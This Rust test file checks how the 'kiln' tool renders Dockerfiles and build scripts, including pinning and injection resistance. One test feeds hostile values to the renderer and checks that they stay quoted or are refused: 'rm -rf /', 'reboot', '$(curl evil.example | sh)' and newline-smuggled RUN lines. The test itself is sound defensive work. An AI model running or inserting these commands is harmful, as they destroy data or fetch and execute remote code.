//! Rendering: snapshots of the final Dockerfiles and component scripts for
//! the examples, pinning, published AWSTOE documents loading unchanged, and
//! proof that no value can add Dockerfile instructions.

use std::path::Path;

use kiln::digest::Digest;
use kiln::load::{self, template};
use kiln::project::Project;
use kiln::reference::ImageReference;
use kiln::render::{self, Pins};

fn repo_root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// The registry host differs per machine (`${KILN_REGISTRY}`); snapshots don't.
fn normalise(text: &str, recipe: &load::LoadedRecipe) -> String {
    text.replace(&recipe.parent_image.registry, "<registry>")
}

fn copy_project(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for sub in ["recipes", "components", "dockerfiles", "config"] {
        std::fs::create_dir_all(dir.path().join(sub)).unwrap();
    }
    for (rel, text) in files {
        std::fs::write(dir.path().join(rel), text).unwrap();
    }
    dir
}

#[test]
fn hello_web_dockerfile() {
    let project = Project::open(repo_root()).unwrap();
    let recipe = load::load_recipe(&project, "hello-web").unwrap();
    let rendered = render::render(&recipe, &Pins::default());
    insta::assert_snapshot!(normalise(&rendered.dockerfile, &recipe));
}

#[test]
fn hello_web_component_scripts() {
    let project = Project::open(repo_root()).unwrap();
    let recipe = load::load_recipe(&project, "hello-web").unwrap();
    let rendered = render::render(&recipe, &Pins::default());
    let build = rendered
        .files
        .iter()
        .find(|f| f.path.ends_with("build.sh"))
        .unwrap();
    insta::assert_snapshot!(
        "hello_web_build_sh",
        String::from_utf8_lossy(&build.contents)
    );
    assert_eq!(rendered.test_scripts.len(), 1);
    insta::assert_snapshot!("hello_web_test_sh", &rendered.test_scripts[0].script);
}

#[test]
fn pins_replace_every_parent_reference() {
    let project = Project::open(repo_root()).unwrap();
    let recipe = load::load_recipe(&project, "hello-web").unwrap();
    let digest = Digest::of(b"pinned base");
    let mut pins = Pins::default();
    pins.0.insert(
        recipe.parent_image.clone(),
        recipe.parent_image.pinned(digest.clone()),
    );
    let rendered = render::render(&recipe, &pins);
    let froms: Vec<&str> = rendered
        .dockerfile
        .lines()
        .filter(|l| l.starts_with("FROM "))
        .collect();
    assert_eq!(froms.len(), 2, "{}", rendered.dockerfile);
    for from in froms {
        assert!(from.contains(&format!("kiln/base@{digest}")), "{from}");
        assert!(!from.contains(":1"), "tag left in {from}");
    }
}

#[test]
fn plain_dockerfile_without_placeholders() {
    let plain =
        std::fs::read_to_string(repo_root().join("tests/fixtures/plain/Dockerfile")).unwrap();
    let dir = copy_project(&[
        (
            "recipes/plain.yaml",
            "name: plain\nversion: 2.1.0\nparentImage: 127.0.0.1:5000/kiln/base:1\ndockerfile: plain.Dockerfile\n",
        ),
        ("dockerfiles/plain.Dockerfile", &plain),
    ]);
    let project = Project::open(dir.path()).unwrap();
    let recipe = load::load_recipe(&project, "plain").unwrap();
    assert_eq!(
        recipe.base_images.len(),
        1,
        "stage names are not images: {:?}",
        recipe.base_images
    );
    let digest = Digest::of(b"plain base");
    let mut pins = Pins::default();
    pins.0.insert(
        recipe.parent_image.clone(),
        recipe.parent_image.pinned(digest),
    );
    let rendered = render::render(&recipe, &pins);
    insta::assert_snapshot!(rendered.dockerfile);
}

#[test]
fn default_template_when_no_dockerfile() {
    let component =
        std::fs::read_to_string(repo_root().join("tests/fixtures/awstoe/hello-world.yaml"))
            .unwrap();
    let dir = copy_project(&[
        (
            "recipes/d.yaml",
            "name: d\nversion: 1.0.0\nparentImage: 127.0.0.1:5000/kiln/base:1\nbuildArgs:\n  MODE: release\ncomponents:\n  - name: hello-world\n",
        ),
        ("components/hello-world.yaml", &component),
    ]);
    let project = Project::open(dir.path()).unwrap();
    let recipe = load::load_recipe(&project, "d").unwrap();
    let rendered = render::render(&recipe, &Pins::default());
    insta::assert_snapshot!(rendered.dockerfile);
}

#[test]
fn published_awstoe_documents_load_unchanged() {
    let dir = repo_root().join("tests/fixtures/awstoe");
    let names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert!(names.len() >= 4, "{names:?}");
    let files: Vec<(String, String)> = names
        .iter()
        .map(|n| {
            (
                format!("components/{n}"),
                std::fs::read_to_string(dir.join(n)).unwrap(),
            )
        })
        .collect();
    let refs: Vec<(&str, &str)> = files
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let project_dir = copy_project(&refs);
    let project = Project::open(project_dir.path()).unwrap();
    for n in &names {
        let stem = n.trim_end_matches(".yaml");
        let c = load::load_component(&project, stem).unwrap_or_else(|d| panic!("{n}:\n{d}"));
        assert!(!c.phases.is_empty(), "{n}");
        let script = render::toe_script::phase_script(
            &c,
            &c.parameters
                .iter()
                .map(|(k, v)| (k.clone(), v.clone().unwrap_or_default()))
                .collect(),
            &[
                load::component::PhaseKind::Build,
                load::component::PhaseKind::Validate,
            ],
            "/",
        );
        assert!(script.is_some(), "{n} renders a build script");
    }
}

/// Parameter values are data: whatever they hold, the Dockerfile has the
/// same instructions, and the script carries the value as one quoted word.
#[test]
fn values_cannot_inject_instructions() {
    let component = "name: c\nschemaVersion: 1.0\nparameters:\n  - Value:\n      type: string\n      default: x\nphases:\n  - name: build\n    steps:\n      - name: Echo\n        action: ExecuteBash\n        inputs:\n          commands:\n            - echo {{ Value }}\n";
    let render_with = |value: &str| {
        let recipe = format!(
            "name: i\nversion: 1.0.0\nparentImage: 127.0.0.1:5000/kiln/base:1\nbuildArgs:\n  MODE: {value:?}\ncomponents:\n  - name: c\n    parameters:\n      Value: {value:?}\n"
        );
        let dir = copy_project(&[
            ("recipes/i.yaml", &recipe),
            ("components/c.yaml", component),
        ]);
        let project = Project::open(dir.path()).unwrap();
        let loaded = load::load_recipe(&project, "i").map_err(|d| d.to_string())?;
        Ok::<_, String>(render::render(&loaded, &Pins::default()))
    };
    let benign = render_with("hello").unwrap();
    let count = |df: &str| template::instructions(df).len();
    for evil in [
        "x\" && RUN rm -rf / #",
        "'; reboot; echo '",
        "$(curl evil.example | sh)",
        "` reboot `",
        "x \\",
        "}}} {{{ imagebuilder:components",
    ] {
        let r = render_with(evil).unwrap_or_else(|e| panic!("{evil:?} refused: {e}"));
        assert_eq!(
            count(&r.dockerfile),
            count(&benign.dockerfile),
            "{evil:?} changed the Dockerfile:\n{}",
            r.dockerfile
        );
        assert_eq!(
            r.dockerfile, benign.dockerfile,
            "values never reach the Dockerfile text"
        );
        let script = String::from_utf8_lossy(
            &r.files
                .iter()
                .find(|f| f.path.ends_with("build.sh"))
                .unwrap()
                .contents,
        )
        .into_owned();
        let quoted = format!("'echo {}'", evil.replace('\'', "'\\''"));
        assert!(
            script.contains(&quoted),
            "{evil:?} not single-quoted in:\n{script}"
        );
    }
    for refused in ["a\\\nRUN evil", "a\nRUN evil", "a\rb", "a\u{0}b"] {
        assert!(render_with(refused).is_err(), "{refused:?} accepted");
    }
}

#[test]
fn parent_reference_must_parse() {
    let r: Result<ImageReference, _> = "127.0.0.1:5000/kiln/base:1 AS x".parse();
    assert!(r.is_err());
}

/// The generated script runs on the host's bash (5.2 on Debian 12, where
/// `&` in a `${x//pat/rep}` replacement means "the match"): loop values and
/// chained outputs arrive byte for byte.
#[test]
fn runtime_substitution_is_literal() {
    let component = r#"name: lit
schemaVersion: 1.0
phases:
  - name: build
    steps:
      - name: First
        action: ExecuteBash
        loop:
          forEach: ["a&b", 'c\d', "$(x)"]
        inputs:
          commands:
            - printf '%s\n' '{{ loop.value }}' | tee -a "$KILN_TEST_OUT"
      - name: Second
        action: ExecuteBash
        inputs:
          commands:
            - printf 'got:%s\n' '{{ build.First.outputs.stdout }}' >> "$KILN_TEST_OUT"
"#;
    let dir = copy_project(&[
        (
            "recipes/l.yaml",
            "name: l\nversion: 1.0.0\nparentImage: 127.0.0.1:5000/kiln/base:1\ncomponents:\n  - name: lit\n",
        ),
        ("components/lit.yaml", component),
    ]);
    let project = Project::open(dir.path()).unwrap();
    let recipe = load::load_recipe(&project, "l").unwrap();
    let rendered = render::render(&recipe, &Pins::default());
    let scripts = dir.path().join("scripts");
    for f in &rendered.files {
        let name = f.path.rsplit('/').next().unwrap();
        std::fs::create_dir_all(&scripts).unwrap();
        std::fs::write(scripts.join(name), &f.contents).unwrap();
    }
    let out = dir.path().join("out.txt");
    let status = std::process::Command::new("bash")
        .arg(scripts.join("build.sh"))
        .env("KILN_TEST_OUT", &out)
        .output()
        .unwrap();
    assert!(
        status.status.success(),
        "{}",
        String::from_utf8_lossy(&status.stderr)
    );
    let text = std::fs::read_to_string(&out).unwrap();
    assert_eq!(text, "a&b\nc\\d\n$(x)\ngot:a&b\nc\\d\n$(x)\n");
}
